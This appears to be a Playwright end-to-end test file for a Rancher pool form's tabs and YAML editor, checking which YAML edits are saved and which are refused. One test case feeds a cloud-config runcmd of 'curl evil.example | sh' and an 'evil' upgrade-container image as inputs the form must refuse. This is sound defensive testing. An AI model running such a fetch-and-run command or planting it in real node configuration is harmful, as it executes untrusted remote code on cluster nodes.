// Issue 17: the pool form's tabs and its editable YAML view. A YAML edit is saved through the
// form's own write rules: a label typed in the YAML is written, and only it; a change of the pin
// (or of what runs on the nodes) is refused and nothing is written; YAML that does not parse names
// its line and disables saving. Seeds its channel and pool through the API (support/seed.ts,
// support/seed-pool-forms.ts), so it runs on a real Rancher too.

import { Page } from '@playwright/test';
import jsyaml from 'js-yaml';
import { field } from './support/api';
import { expectAccessible, expectTheme, useDarkTheme, useLightTheme } from './support/a11y';
import { dashboardPath, loginAs } from './support/login';
import { expect, test } from './support/test';
import { POOL_TYPE, POOLS } from './support/names';
import { TEST_NAMESPACE } from './support/env';
import { useSeed } from './support/seed';
import {
  OLDER_IMAGE, pinnedPool, PoolWorld, seedPoolWorld, writtenFields
} from './support/seed-pool-forms';

const seed = useSeed();
let world: PoolWorld;
/** The test's pool: pinned to the channel's newest image, concurrency 1, on one cluster. */
let pool: string;

test.beforeEach(async() => {
  world = await seedPoolWorld(seed);
  pool = await seed.pool('e2e-yaml', pinnedPool(world));
});

/** Opens the pool's form on its YAML view and waits for the editor. */
async function openYaml(page: Page): Promise<void> {
  await page.goto(dashboardPath(`${ POOLS }/${ TEST_NAMESPACE }/${ pool }/edit?as=yaml`));
  // The editor's code loads on first use: slow on a loaded machine.
  await expect(page.locator('[data-testid="pool-yaml"] .CodeMirror')).toBeVisible({ timeout: 30_000 });
}

async function editorText(page: Page): Promise<string> {
  return page.locator('[data-testid="pool-yaml"] .CodeMirror').evaluate((el) => (el as unknown as { CodeMirror: { getValue(): string } }).CodeMirror.getValue());
}

/** Replaces the editor's text as a paste would (CodeMirror's own change events). */
async function setEditorText(page: Page, text: string): Promise<void> {
  await page.locator('[data-testid="pool-yaml"] .CodeMirror').evaluate((el, value) => (el as unknown as { CodeMirror: { setValue(v: string): void } }).CodeMirror.setValue(value), text);
}

async function editYaml(page: Page, change: (object: any) => void): Promise<void> { // eslint-disable-line @typescript-eslint/no-explicit-any
  const object = jsyaml.load(await editorText(page)) as any; // eslint-disable-line @typescript-eslint/no-explicit-any

  change(object);
  await setEditorText(page, jsyaml.dump(object));
}

async function readPool(): Promise<Record<string, unknown>> {
  const stored = await seed.get(POOL_TYPE, pool);

  expect(stored, `pool ${ pool } is stored`).toBeTruthy();

  return stored as Record<string, unknown>;
}

test.describe('pool form: tabs and the YAML view', () => {
  test('a label edited in the YAML is saved, and nothing else changes', async({ page }) => {
    await loginAs(page, 'admin');
    const before = await readPool();

    await openYaml(page);
    await editYaml(page, (object) => {
      object.metadata.labels = { ...object.metadata.labels, tier: 'gold' };
    });
    await expect(page.getByTestId('pool-yaml-problems')).toBeEmpty();
    await page.getByTestId('pool-save-async-button').click();
    await expect(page).toHaveURL(/\/pools$/);

    const after = await readPool();

    expect(field(after, 'metadata.labels')).toEqual({ ...field(before, 'metadata.labels') as object, tier: 'gold' });
    expect(field(after, 'metadata.annotations')).toEqual(field(before, 'metadata.annotations'));
    expect(after.spec).toEqual(before.spec);
    expect(field(after, 'metadata.resourceVersion')).not.toBe(field(before, 'metadata.resourceVersion'));
  });

  test('a YAML edit of the pin is refused beside the editor and nothing is written', async({ page }) => {
    await loginAs(page, 'admin');
    const before = await writtenFields(seed, pool);

    await openYaml(page);
    await editYaml(page, (object) => {
      object.spec.managedOSVersionName = world.channel.version(OLDER_IMAGE);
    });
    await expect(page.getByTestId('pool-yaml-refused-edit')).toContainText('The image changes only through Approve');
    await expect(page.getByTestId('pool-save-async-button')).toBeDisabled();
    expect(await writtenFields(seed, pool)).toEqual(before);
  });

  // Issue 25: the upgrade container, prepare and cloud-config decide what the nodes run, as the pin does.
  for (const [name, change, path] of [
    ['the upgrade container\'s image', (o: any) => { // eslint-disable-line @typescript-eslint/no-explicit-any
      o.spec.upgradeContainer = { image: 'registry.example/evil:1' };
    }, 'spec.upgradeContainer'],
    ['FORCE in the upgrade container', (o: any) => { // eslint-disable-line @typescript-eslint/no-explicit-any
      o.spec.upgradeContainer = { envs: [{ name: 'FORCE', value: 'true' }] };
    }, 'spec.upgradeContainer'],
    ['the cloud-config', (o: any) => { // eslint-disable-line @typescript-eslint/no-explicit-any
      o.spec.cloudConfig = { runcmd: ['curl evil.example | sh'] };
    }, 'spec.cloudConfig'],
  ] as const) {
    test(`a YAML edit of ${ name } is refused beside the editor, naming the field, and nothing is written`, async({ page }) => {
      await loginAs(page, 'admin');
      const before = await writtenFields(seed, pool);

      await openYaml(page);
      await editYaml(page, change);
      await expect(page.getByTestId('pool-yaml-refused-edit')).toContainText(`This YAML changes ${ path }, which decides what runs on the nodes`);
      await expect(page.getByTestId('pool-save-async-button')).toBeDisabled();
      expect(await writtenFields(seed, pool)).toEqual(before);
    });
  }

  test('deleting spec.concurrency in the YAML deletes it; deleting spec.drain is refused with the CRD default it would store', async({ page }) => {
    await loginAs(page, 'admin');
    const before = await readPool();

    expect(field(before, 'spec.concurrency')).toBeDefined();
    await openYaml(page);
    await editYaml(page, (object) => {
      delete object.spec.drain;
      delete object.spec.concurrency;
    });
    await expect(page.getByTestId('pool-yaml-refused-edit')).toContainText('spec.drain is deleted in this YAML, but the CRD gives it a default');
    await expect(page.getByTestId('pool-save-async-button')).toBeDisabled();

    await editYaml(page, (object) => {
      object.spec.drain = field(before, 'spec.drain');
    });
    await expect(page.getByTestId('pool-yaml-problems')).toBeEmpty();
    await page.getByTestId('pool-save-async-button').click();
    await expect(page).toHaveURL(/\/pools$/);
    const after = await readPool();

    expect(field(after, 'spec.concurrency')).toBeUndefined();
    expect(field(after, 'spec.drain')).toEqual(field(before, 'spec.drain'));
    expect(field(after, 'spec.managedOSVersionName')).toBe(field(before, 'spec.managedOSVersionName'));
  });

  test('a spec field the CRD does not know is refused before sending, naming it', async({ page }) => {
    await loginAs(page, 'admin');
    const before = await writtenFields(seed, pool);

    await openYaml(page);
    await editYaml(page, (object) => {
      object.spec.bogusField = true;
    });
    await expect(page.getByTestId('pool-yaml-refused-edit')).toContainText('spec.bogusField is not a field of a ManagedOSImage');
    await expect(page.getByTestId('pool-save-async-button')).toBeDisabled();
    expect(await writtenFields(seed, pool)).toEqual(before);
  });

  test('annotations over the API server\'s 256 KiB are refused beside the editor', async({ page }) => {
    await loginAs(page, 'admin');
    await openYaml(page);
    await editYaml(page, (object) => {
      // 300 kB in words: the YAML folds it into short lines, which the editor draws quickly.
      object.metadata.annotations = { ...object.metadata.annotations, note: `${ 'lorem ipsum '.repeat(25_000) }end` };
    });
    await expect(page.getByTestId('pool-yaml-problems')).toContainText('the API server accepts at most 262144');
    await expect(page.getByTestId('pool-save-async-button')).toBeDisabled();
  });

  test('YAML that does not parse shows its line and disables saving; the form says so until it is discarded', async({ page }) => {
    await loginAs(page, 'admin');
    await openYaml(page);
    // Typed on the first line: `kind` is then given twice (the YAML shown starts with apiVersion, kind).
    await page.locator('[data-testid="pool-yaml"] .CodeMirror-code').click();
    await page.keyboard.press('Control+Home');
    await page.keyboard.type('kind: Other\n');
    await expect(page.getByTestId('pool-yaml-syntax')).toContainText('does not parse at line 3');
    await expect(page.getByTestId('pool-yaml-syntax')).toContainText('duplicated mapping key');
    await expect(page.getByTestId('pool-save-async-button')).toBeDisabled();

    await page.getByTestId('pool-toggle-yaml').click();
    await expect(page.getByTestId('pool-yaml-unread')).toBeVisible();
    await expect(page.getByTestId('pool-save-async-button')).toBeDisabled();
    await page.getByTestId('pool-yaml-discard').click();
    await expect(page.getByTestId('pool-yaml-unread')).toHaveCount(0);
  });

  test('the tabs work by keyboard, mark the tab holding a problem and lead to it', async({ page }) => {
    await loginAs(page, 'admin');
    await page.goto(dashboardPath(`${ POOLS }/${ TEST_NAMESPACE }/${ pool }/edit`));
    await page.getByTestId('btn-identity').focus();
    await page.keyboard.press('ArrowRight');
    await expect(page.getByTestId('btn-targets')).toBeFocused();
    await expect(page.getByTestId('pool-targets')).toBeVisible();
    await page.keyboard.press('ArrowRight');
    await page.keyboard.press('ArrowRight');
    await expect(page.getByTestId('btn-rollout')).toBeFocused();
    await page.getByTestId('pool-concurrency').fill('0');
    await page.getByTestId('btn-identity').click();
    await expect(page.getByTestId('rollout')).toHaveClass(/error/);
    await page.getByTestId('pool-show-problem').click();
    await expect(page.getByTestId('pool-concurrency')).toBeVisible();
  });

  // Issue 24: "The selector is not valid. Show it (Targets)" named the tab of another problem.
  test('a refusal names and opens the tab holding its problem; a read-only form marks no tab', async({ page }) => {
    await loginAs(page, 'admin');
    await page.goto(dashboardPath(`${ POOLS }/create`));
    await page.getByTestId('pool-name-input').fill('e2e-banner');
    // An unconfirmed overlap on Targets, and no selector yet on Image.
    await page.getByTestId('btn-targets').click();
    await page.getByTestId('pool-target-add').click();
    await page.getByTestId('pool-target-cluster-0').click();
    await page.getByRole('option', { name: world.cluster, exact: true }).click();
    await page.getByTestId('btn-identity').click();

    await expect(page.getByTestId('pool-plan-refusal')).toContainText('The selector is not valid.');
    await expect(page.getByTestId('pool-show-problem')).toHaveText('Show it (Image)');
    await expect(page.getByTestId('targets')).toHaveClass(/error/);
    await expect(page.getByTestId('image')).toHaveClass(/error/);
    await page.getByTestId('pool-show-problem').click();
    await expect(page.getByTestId('selector-form')).toBeVisible();

    await loginAs(page, 'viewer');
    await page.goto(dashboardPath(`${ POOLS }/create`));
    await expect(page.getByTestId('pool-form-read-only')).toBeVisible();
    for (const tab of ['identity', 'targets', 'image', 'rollout']) {
      await expect(page.getByTestId(tab)).not.toHaveClass(/error/);
    }
    await expect(page.getByTestId('pool-plan-refusal')).toHaveCount(0);
  });

  for (const theme of ['light', 'dark']) {
    test(`the tabbed form and the YAML view have no serious accessibility violations (${ theme })`, async({ page }) => {
      await loginAs(page, 'admin');
      await (theme === 'dark' ? useDarkTheme(page) : useLightTheme(page));
      await page.goto(dashboardPath(`${ POOLS }/${ TEST_NAMESPACE }/${ pool }/edit`));
      await expectTheme(page, theme);
      await expect(page.getByTestId('pool-name-input')).toBeVisible();
      await expectAccessible(page, '.pool-edit');
      await page.getByTestId('pool-toggle-yaml').click();
      await expect(page.locator('[data-testid="pool-yaml"] .CodeMirror')).toBeVisible();
      await expectAccessible(page, '.pool-edit');
    });
  }
});
